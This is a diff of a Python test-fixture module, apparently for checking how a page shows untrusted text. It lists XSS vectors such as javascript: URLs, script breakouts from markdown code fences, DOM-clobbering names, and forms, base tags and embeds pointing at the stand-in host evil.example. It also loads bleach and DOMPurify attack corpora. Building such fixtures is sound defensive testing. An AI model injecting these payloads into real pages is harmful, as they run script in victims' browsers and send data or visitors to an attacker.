@@ -1,6 +1,6 @@
-"""Texts that attack whoever shows them; files of such texts are read, too.
+"""Texts that attack a page that shows the texts; files of such texts are read, too.
 
-Each of ours that runs sets `window.hacked`; each that loads something asks `evil.example`.
+Each of nbhitl's own texts sets `window.hacked` if the text runs, or asks `evil.example` if the text loads something.
 """
 
 import json
@@ -63,7 +63,7 @@ PAGE = [
     f"<form action=//evil.example><input name=body><button formaction=javascript:{JS}>x</button></form>",
     "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
     f"<object data=javascript:{JS}></object><embed src=//evil.example/x>",
-    "<a id=config name=body href=//evil.example></a><img name=getElementById>",  # names that the page may look up
+    "<a id=config name=body href=//evil.example></a><img name=getElementById>",  # names that a page may look up
 ]
 MARKDOWN = [
     f"```\n</code></pre><script>{JS}</script>\n```\n\n    <img src=x onerror={JS}>",
@@ -82,15 +82,15 @@ VECTORS = [*SCRIPTS, *BREAKOUTS, *LINKS, *PAGE, *MARKDOWN, *TEXT]
 
 
 WHOLE = (0, 1)
-"""The share that is all texts."""
+"""The share with all texts."""
 
 
 def texts_of(folder: str, share: tuple[int, int] = WHOLE) -> list[str]:
-    """Return a share of the texts of all files in a folder, each once; of ours, where no folder is named.
+    """Return a share of the texts of all files in a folder, each once; of nbhitl's own, where no folder is named.
 
-    The share ``(0, 3)`` is the first text and each third text after it, ``(1, 3)`` the second and so on.
-    `.test`: of bleach, the attack before a line of `--`. `.mjs`, `.js`: of DOMPurify, the members `payload`.
-    Other files: one a line.
+    The share ``(0, 3)`` is the first text and each third text from there, ``(1, 3)`` begins at the second, and so on.
+    `.test`: files of bleach, with the attack before a line of `--`. `.mjs`, `.js`: of DOMPurify, the members `payload`.
+    Further files: a text a line.
     """
     first, step = share
     part = slice(first, None, step)
